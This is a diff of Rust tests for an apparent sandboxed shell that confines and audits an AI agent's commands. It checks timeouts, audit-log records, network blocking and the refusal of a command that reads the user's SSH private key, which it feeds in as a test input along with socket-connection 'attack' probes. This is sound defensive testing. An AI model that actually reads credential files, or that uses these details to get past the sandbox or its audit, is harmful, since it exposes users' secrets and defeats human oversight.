-    let Some(w) = world(false) else { return };
+    let Some(w) = world() else { return };
     let dir = w.home(".config/agentsh");
     let mut cfg: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(dir.join("config.json")).unwrap()).unwrap();
-    cfg["commandTimeoutSeconds"] = 30.into();
+    cfg["commandTimeoutSeconds"] = 2.into();
     std::fs::write(dir.join("config.json"), cfg.to_string()).unwrap();
-    refused_by_box(&w.script("set -e\ntouch ~/x\n"), "touch ~/x, supervised");
+    refused_by_box(&w.script("set -e\ncat ~/.ssh/id_ed25519\n"), "read a key, supervised");
     succeeded(&w.script(&format!("set -e\ntouch ./x\n{INSIDE}")), "touch ./x, supervised");
-    // The parent stays outside and records how the command ended.
+    let out = w.script("sleep 30\n");
+    assert_eq!(out.status.code(), Some(124), "{}", text(&out.stderr));
     let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
-    assert!(log.lines().last().unwrap().contains("\"event\":\"exit\""), "{log}");
+    let last: serde_json::Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
+    assert_eq!((last["event"].as_str(), last["timed_out"].as_bool()), (Some("exit"), Some(true)), "{last}");
 }
 
-/// Every audit record names the box its command ran in: its roots, the ABI and the network; or
-/// why it ran unconfined.
+/// Every audit record names the box its command ran in, and every boxed command's exit status
+/// is recorded: agentsh waits for it outside the box.
 #[test]
-fn the_audit_record_names_the_box() {
-    let Some(w) = world(false) else { return };
+fn the_audit_record_names_the_box_and_the_exit_status() {
+    let Some(w) = world() else { return };
     let w = w.git().sandbox(serde_json::json!({"network": "off"}));
-    let last = |w: &World| -> serde_json::Value {
+    let lines = |w: &World| -> Vec<serde_json::Value> {
         let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
-        serde_json::from_str(log.lines().last().unwrap()).unwrap()
+        log.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
     };
-    assert!(w.run("echo x > out.txt").status.success());
-    let b = &last(&w)["sandbox"];
+    let out = w.run("echo x > out.txt; exit 3");
+    assert_eq!(out.status.code(), Some(3));
+    let l = lines(&w);
+    let (decision, exit) = (&l[l.len() - 2], &l[l.len() - 1]);
+    assert_eq!((exit["event"].as_str(), exit["exit_status"].as_i64()), (Some("exit"), Some(3)), "{exit}");
+    assert_eq!(exit["id"], decision["id"]);
+    let b = &decision["sandbox"];
     assert_eq!(b["runs_in"], "sandbox", "{b}");
     assert_eq!(b["network"], "off", "{b}");
-    assert!(b["abi"].as_u64().is_some_and(|a| a >= 3), "{b}");
     let ws = w.ws.path().canonicalize().unwrap().display().to_string();
     assert!(b["writable"].as_array().unwrap().iter().any(|r| r.as_str() == Some(ws.as_str())), "{b}");
     assert!(b["read_only"].as_array().unwrap().iter().any(|r| r.as_str().unwrap().ends_with(".git/hooks")), "{b}");
     let w = w.sandbox(serde_json::json!({"enabled": false}));
     assert!(w.run("true").status.success());
-    let b = &last(&w)["sandbox"];
+    let l = lines(&w);
+    let b = &l.iter().rev().find(|x| x["event"] == "decision").unwrap()["sandbox"];
     assert_eq!(b["runs_in"], "unconfined", "{b}");
     assert!(b["why"].as_str().unwrap().contains("sandbox.enabled is false"), "{b}");
 }
 
-/// A command that joins kept namespaces takes the box's roots from their record instead of
-/// building the spec (run/sandbox.rs, `BoxPlan`): the judge and the audit record must see the
-/// same box as the command that made them.
+/// When the box refuses a command what it names (issue 29, item 5), the agent is told so, in
+/// words it can act on, and the log records it: a bare `No such file or directory` after an
+/// "allowed" record read as though the key had been read.
 #[test]
-fn a_command_that_joins_kept_namespaces_is_judged_and_recorded_as_the_first() {
-    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
-    let w = w.git();
-    let boxes = |w: &World| -> Vec<serde_json::Value> {
-        let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
-        let lines = log.lines().map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap());
-        lines.filter(|l| l["event"] == "decision").map(|l| l["sandbox"].clone()).collect()
-    };
-    // No record yet: the first command below makes the namespaces, the others join them.
-    let records = w.home(".local/state/agentsh/box");
-    let _ = std::fs::remove_dir_all(&records);
-    // Written inside the workspace: contained, so it runs without a person (there is none here)
-    // only if the judge sees the workspace among the writable roots.
-    for n in 0..3 {
-        succeeded(&w.run(&format!("echo {n} > out.txt")), "a write in the workspace");
-    }
-    assert_eq!(std::fs::read_to_string(w.path("out.txt")).unwrap(), "2\n");
-    assert_eq!(std::fs::read_dir(&records).unwrap().count(), 1, "one box, kept and joined");
-    let b = boxes(&w);
-    let n = b.len();
-    assert_eq!(b[n - 1], b[n - 3], "the joining command names the box the first one made");
-    assert!(b[n - 1]["writable"].as_array().is_some_and(|a| !a.is_empty()), "{}", b[n - 1]);
-    assert!(b[n - 1]["read_only"].as_array().is_some_and(|a| !a.is_empty()), "{}", b[n - 1]);
-    // Outside the workspace: still asks (and is refused, with nobody to ask).
-    let out = w.run("echo x > ~/outside.txt");
-    assert!(!out.status.success(), "{}", text(&out.stderr));
-    assert!(!w.home("outside.txt").exists());
+fn a_refusal_by_the_box_is_told_and_recorded() {
+    let Some(w) = world() else { return };
+    let out = w.run("cat ~/.ssh/id_ed25519");
+    assert!(!out.status.success());
+    let err = text(&out.stderr);
+    assert!(
+        err.contains("agentsh: the sandbox kept this command from ~/.ssh/id_ed25519: it is in the person's home"),
+        "{err}"
+    );
+    assert!(err.contains("sandbox.readable") && err.contains("do not try sudo"), "{err}");
+    let log = std::fs::read_to_string(w.home(".local/state/agentsh/audit.jsonl")).unwrap();
+    let last: serde_json::Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
+    assert_eq!(last["box_refused"], serde_json::json!(["~/.ssh/id_ed25519"]), "{last}");
+    let shown = w.command(&["log", "-n", "1"]).output().unwrap();
+    assert!(text(&shown.stdout).contains("the sandbox kept it from ~/.ssh/id_ed25519"), "{}", text(&shown.stdout));
+    // A command that succeeds, or names nothing out of sight, gets no such line.
+    let out = w.run("cat ~/.gitconfig >/dev/null");
+    assert!(out.status.success() && !text(&out.stderr).contains("kept this command"), "{}", text(&out.stderr));
 }
 
 #[test]
-fn in_a_home_kept_in_git_the_current_directory_is_the_workspace() {
-    // A dotfiles repository at home: its top-level is never granted, so a directory in home
-    // that is no repository of its own is the workspace, as where there is no repository.
-    let Some(w) = world(false) else { return };
-    std::fs::create_dir_all(w.home(".git/hooks")).unwrap();
-    let scratch = w.home("scratch");
-    std::fs::create_dir_all(&scratch).unwrap();
-    std::fs::write(scratch.join("probe.sh"), "set -e\ntouch made-here\n").unwrap();
-    let out = w.command(&["-c", "sh probe.sh"]).current_dir(&scratch).output().unwrap();
-    succeeded(&out, "a write in the current directory");
-    assert!(scratch.join("made-here").exists());
-    std::fs::write(scratch.join("probe.sh"), "set -e\ntouch ../beside\n").unwrap();
-    let out = w.command(&["-c", "sh probe.sh"]).current_dir(&scratch).output().unwrap();
-    refused_by_box(&out, "a write in home beside it");
-    assert!(!w.home("beside").exists());
+fn the_network_off_means_no_network_at_all() {
+    let Some(w) = world() else { return };
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let body = format!(
+        "set -e\n{} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=5)'\n",
+        python()
+    );
+    let w = w.sandbox(serde_json::json!({"network": "off"}));
+    attack(&w, "connect with the network off", &body);
+    let udp = format!(
+        "set -e\n{} -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", {port}))'\n",
+        python()
+    );
+    refused_by_box(&w.script(&udp), "UDP with the network off");
 }
